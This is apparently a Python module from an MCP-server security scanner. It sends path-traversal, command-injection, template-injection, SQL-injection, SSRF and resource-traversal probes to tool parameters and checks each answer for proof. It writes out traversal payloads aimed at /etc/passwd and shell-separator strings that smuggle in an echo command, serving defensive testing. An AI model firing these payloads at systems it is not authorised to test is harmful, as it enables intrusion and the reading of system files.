"""Tool-argument attacks: path traversal, command injection, template injection, SQL injection, SSRF,
and resource-URI traversal. Each attacks the parameters whose role fits (see `params.role_of`) of
tools that are safe to call, one payload variant after another until one is proven."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator, Mapping
from typing import Any

from mcpwarden.redteam.attack import Context, ToolAnswer, answer_text
from mcpwarden.redteam.params import Param, Role, parameters
from mcpwarden.types import ToolDef

_TRAVERSALS = (
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "....//....//....//....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
)


def _request(tool: str, args: dict[str, Any]) -> str:
    return f"tools/call {tool} {json.dumps(args, ensure_ascii=False)}"


def targets(ctx: Context, roles: frozenset[Role]) -> Iterator[tuple[ToolDef, Param]]:
    """Safe tools' parameters whose role is one of `roles`."""
    for tool in ctx.safe_tools:
        for param in parameters(tool):
            if param.role in roles:
                yield tool, param


async def _send(ctx: Context, tool: ToolDef, param: Param, value: Any) -> tuple[dict[str, Any], ToolAnswer]:
    args = ctx.benign_arguments(tool, **{param.name: value})
    return args, await ctx.call_tool(tool.name, args)


async def _first_proven(
    ctx: Context,
    attack_id: str,
    rule_id: str,
    tool: ToolDef,
    param: Param,
    payloads: Iterable[str],
    known: Mapping[str, Any],
) -> None:
    """Send each payload to `param` of `tool` until the oracle of `rule_id` judges one proven.

    Each observation is the payload sent, the answer's text and `known` (what the oracle compares
    against: the baseline answer, the canary or the product it looks for).
    """
    for index, payload in enumerate(payloads):
        key = f"{attack_id}:{tool.name}:{param.name}:{index}"
        with ctx.probe(key):
            args, answer = await _send(ctx, tool, param, payload)
        observation = {**known, "sent": payload, "answer": answer.text}
        request = _request(tool.name, args)
        if ctx.judge(key, rule_id, observation, request=request, tool=tool.name, kind="tool", pointer=param.pointer):
            return


class PathTraversal:
    id = "args.path_traversal"
    suite = "arguments"
    rule_ids = ("MW700",)
    sends = "`../` sequences, encoded and absolute paths to /etc/passwd (and file:///etc/passwd to URL parameters)"
    judged_by = "the first line of /etc/passwd (`root:x:0:0:`) in the answer, absent from the baseline"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        for tool, param in targets(ctx, frozenset({"path", "url", "text"})):
            if param.role == "text" and not re.search(r"file|path|dir|folder", param.name + tool.name, re.I):
                continue
            baseline = (await ctx.baseline(tool)).text
            payloads = ("file:///etc/passwd",) if param.role == "url" else _TRAVERSALS
            await _first_proven(ctx, self.id, "MW700", tool, param, payloads, {"baseline": baseline})


class CommandInjection:
    id = "args.command_injection"
    suite = "arguments"
    rule_ids = ("MW701",)
    sends = "shell separators (`;`, `|`, `&&`, `$()`, backticks) followed by `echo A''B` with a random canary"
    judged_by = "the joined canary `AB` in the answer: only a shell removes the quotes"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        for tool, param in targets(ctx, frozenset({"host", "text", "path", "query"})):
            left, right = ctx.canary_token(5), ctx.canary_token(5)
            word = f"{left}''{right}"
            prefix = "127.0.0.1" if param.role == "host" else "test"
            variants = [f"{prefix}; echo {word}", f"$(echo {word})", f"{prefix} | echo {word}"]
            if param.role == "host":
                variants += [f"{prefix} && echo {word}", f"`echo {word}`"]
            await _first_proven(ctx, self.id, "MW701", tool, param, variants, {"canary": left + right})


class TemplateInjection:
    id = "args.template_injection"
    suite = "arguments"
    rule_ids = ("MW702",)
    sends = "`{{a*b}}`, `${a*b}`, `<%= a*b %>`, `#{a*b}` with two random 5-digit factors"
    judged_by = "the product a×b in the answer (never in what was sent or in the baseline)"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        for tool, param in targets(ctx, frozenset({"text", "query"})):
            a, b = ctx.rng.randint(10007, 99991), ctx.rng.randint(10007, 99991)
            baseline = (await ctx.baseline(tool)).text
            payloads = (f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}")
            known = {"product": str(a * b), "baseline": baseline}
            await _first_proven(ctx, self.id, "MW702", tool, param, payloads, known)


class SqlInjection:
    id = "args.sql_injection"
    suite = "arguments"
    rule_ids = ("MW703",)
    sends = "a quote pair (`'\"`), then an always-true and an always-false condition after a value that matches nothing"
    judged_by = "database error text absent from the baseline, or true ≠ false with false = the no-match answer"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        for tool, param in targets(ctx, frozenset({"query", "text"})):
            value = f"mw{ctx.canary_token(6)}"
            key = f"{self.id}:{tool.name}:{param.name}"
            with ctx.probe(key):
                _, plain = await _send(ctx, tool, param, value)
                args, broken = await _send(ctx, tool, param, f"{value}'\"")
                true_sent, false_sent = f"{value}' OR '1'='1", f"{value}' AND '1'='2"
                _, true_answer = await _send(ctx, tool, param, true_sent)
                _, false_answer = await _send(ctx, tool, param, false_sent)
            observation = {
                "sent": f"{value}'\"",
                "answer": broken.text,
                "baseline": plain.text.replace(value, ""),
                "true_answer": true_answer.text.replace(true_sent, ""),
                "false_answer": false_answer.text.replace(false_sent, ""),
            }
            ctx.judge(
                key,
                "MW703",
                observation,
                request=_request(tool.name, args),
                tool=tool.name,
                kind="tool",
                pointer=param.pointer,
            )


class Ssrf:
    id = "args.ssrf"
    suite = "arguments"
    rule_ids = ("MW704",)
    sends = "a URL of the run's own listener on 127.0.0.1 (random port) with a random path token"
    judged_by = "the listener receiving a request for that token"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        for tool, param in targets(ctx, frozenset({"url"})):
            token = f"mw-ssrf-{ctx.canary_token(12)}"
            key = f"{self.id}:{tool.name}:{param.name}"
            with ctx.probe(key):
                args, _ = await _send(ctx, tool, param, ctx.canary.url(token))
            hits = await ctx.canary.wait_for(token, 1.5)
            ctx.judge(
                key,
                "MW704",
                {"token": token, "hits": hits},
                request=_request(tool.name, args),
                tool=tool.name,
                kind="tool",
                pointer=param.pointer,
            )


_VARIABLE = re.compile(r"\{([+#./;?&]?)([\w.,*]+)\}")
_RESOURCE_TRAVERSALS = ("../../../../../../../../etc/passwd", "..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd")


def resource_uris(template: str) -> list[str]:
    """URIs from a template with its first variable replaced by traversal payloads (others by `x`)."""
    found = list(_VARIABLE.finditer(template))
    if not found:
        return []
    uris = []
    for payload in _RESOURCE_TRAVERSALS:
        first = found[0]
        uri = template[: first.start()] + payload + template[first.end() :]
        uris.append(_VARIABLE.sub("x", uri))
    return uris


class ResourceTraversal:
    id = "args.resource_traversal"
    suite = "arguments"
    rule_ids = ("MW705",)
    sends = (
        "resources/read with template variables set to `../` sequences (plain and %2F-encoded), and file:///etc/passwd"
    )
    judged_by = "the first line of /etc/passwd in the resource contents"
    transports = frozenset({"http", "stdio"})

    async def run(self, ctx: Context) -> None:
        candidates: list[tuple[str, str, str]] = []  # (template or resource, kind, uri)
        for template in ctx.inventory.templates:
            pattern = str(template.definition.get("uriTemplate", ""))
            candidates += [(pattern, "resource_template", uri) for uri in resource_uris(pattern)]
        if any(str(r.definition.get("uri", "")).startswith("file://") for r in ctx.inventory.resources):
            candidates.append(("file://", "resource", "file:///etc/passwd"))
        proven: set[str] = set()
        for index, (name, kind, uri) in enumerate(candidates):
            if name in proven:
                continue
            key = f"{self.id}:{name}:{index}"
            with ctx.probe(key):
                session = await ctx.session()
                _, reply = await session.request("resources/read", {"uri": uri})
            text, _ = answer_text(reply)
            request = f"resources/read {json.dumps({'uri': uri})}"
            if ctx.judge(
                key,
                "MW705",
                {"sent": uri, "answer": text},
                request=request,
                tool=name,
                kind="resource_template" if kind == "resource_template" else "resource",
                pointer="/uri",
            ):
                proven.add(name)
